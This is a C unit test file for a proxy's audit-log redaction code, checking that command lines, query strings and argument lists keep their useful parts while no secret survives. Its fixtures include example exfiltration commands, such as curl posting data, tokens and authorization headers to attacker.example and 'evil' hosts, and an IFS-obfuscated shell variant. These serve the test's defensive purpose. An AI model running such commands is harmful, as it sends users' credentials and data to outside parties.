/* Unit tests of the command-line redaction the audit trail applies
 * (proxy/redact.c): what is kept, and that no secret survives. */
#include "unit.h"

#include <string.h>

#include "proxy/bypass.h"
#include "proxy/px_internal.h"

static void expect(const char *in, const char *want)
{
    char out[512];
    px_cmdline_redact(in, out, sizeof out);
    if (strcmp(out, want) != 0)
        fail_msg("redact(%s)\n  got  %s\n  want %s", in, out, want);
}

static void keeps_what_an_auditor_needs(void **state)
{
    (void)state;
    expect("curl -sS -X POST https://attacker.example.com/exfil -d diag=s3cr3t",
           "curl -sS -X <redacted> https://attacker.example.com<redacted> -d <redacted>");
    expect("curl --url=https://evil.example:8443/p?q=1",
           "curl --url=https://evil.example:8443<redacted>");
    expect("node /app/agent.js", "node <redacted>");
    expect("git push origin main", "git <redacted> <redacted> <redacted>");
    expect("/usr/bin/python3", "/usr/bin/python3");
    expect("  curl   -v   http://h/  ", "curl -v http://h<redacted>");
    expect("", "");
}

static void no_secret_survives(void **state)
{
    (void)state;
    static const char *const cases[] = {
        "curl -d token=SECRET https://evil/",
        "curl -dSECRET https://evil/",
        "curl --data=SECRET https://evil/",
        "curl -H Authorization:SECRET https://evil/",
        "curl https://user:SECRET@evil.example/x",
        "curl --url=https://user:SECRET@evil.example/x",
        "curl token=SECRET://x",
        "curl --data=SECRETx://h",
        "curl --SECRET_TOKEN_VALUE",
        "curl -SECRET",
        "sh -c curl${IFS}-dSECRET",
        "env TOKEN=SECRET curl https://evil/",
        "curl https://evil/?token=SECRET",
        "curl https://evil/#SECRET",
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        char out[512];
        px_cmdline_redact(cases[i], out, sizeof out);
        if (strstr(out, "SECRET"))
            fail_msg("the secret survives: %s -> %s", cases[i], out);
    }
}

static void always_terminated(void **state)
{
    (void)state;
    char out[16];
    px_cmdline_redact("curl https://a-very-long-host-name.example/ -d x", out, sizeof out);
    assert_int_equal(strlen(out), sizeof out - 1);
    char one[1];
    px_cmdline_redact("curl", one, sizeof one);
    assert_int_equal(one[0], '\0');
}

static void query_values_redacted_keys_kept(void **state)
{
    (void)state;
    static const char *const cases[][2] = {
        {"diag=s3cr3t", "diag=<redacted>"},
        {"a=1&b=2", "a=<redacted>&b=<redacted>"},
        {"flag&e=&x=y", "<redacted>&e=&x=<redacted>"},
        {"", ""},
        {"&&", "&&"},
        {"k==v=w", "k=<redacted>"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        ocsf_buf_t b;
        ocsf_buf_init(&b);
        px_query_redact(cases[i][0], strlen(cases[i][0]), &b);
        const char *got = ocsf_buf_cstr(&b);
        if (strcmp(got, cases[i][1]) != 0)
            fail_msg("query_redact(%s)\n  got  %s\n  want %s", cases[i][0], got, cases[i][1]);
        ocsf_buf_dispose(&b);
    }
}

static void expect_argv(const char *args, size_t len, const char *want)
{
    char out[512];
    px_argv_redact(args, len, out, sizeof out);
    if (strcmp(out, want) != 0)
        fail_msg("argv_redact\n  got  %s\n  want %s", out, want);
}

/* One token per argument: spaces inside an argument do not make more. */
static void one_token_per_argument(void **state)
{
    (void)state;
    static const char sh[] = "sh\0-c\0env | grep -i proxy"; /* 3 arguments */
    expect_argv(sh, sizeof sh, "sh -c <redacted>");
    expect_argv(sh, sizeof sh - 1, "sh -c <redacted>"); /* the last NUL missing */
    static const char curl[] = "/usr/bin/curl\0-sS\0-d\0diag=s3cr3t x\0https://h.example/p q\0";
    expect_argv(curl, sizeof curl - 1,
                "/usr/bin/curl -sS -d <redacted> https://h.example<redacted>");
    static const char ex[] = "tollgate\0sandbox\0exec\0--\0sh\0-c\0env | grep -i proxy";
    expect_argv(ex, sizeof ex, "tollgate <redacted> <redacted> -- <redacted> -c <redacted>");
    static const char empty[] = "prog\0\0-v";
    expect_argv(empty, sizeof empty, "prog '' -v");
    static const char spaced[] = "/opt/my app/bin\0--url=https://u:SECRET@e.example/x";
    expect_argv(spaced, sizeof spaced, "/opt/my app/bin --url=https://e.example<redacted>");
    expect_argv("", 0, "");
    char out[8];
    px_argv_redact(curl, sizeof curl - 1, out, sizeof out);
    assert_int_equal(strlen(out), sizeof out - 1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(keeps_what_an_auditor_needs),
        cmocka_unit_test(no_secret_survives),
        cmocka_unit_test(always_terminated),
        cmocka_unit_test(query_values_redacted_keys_kept),
        cmocka_unit_test(one_token_per_argument),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
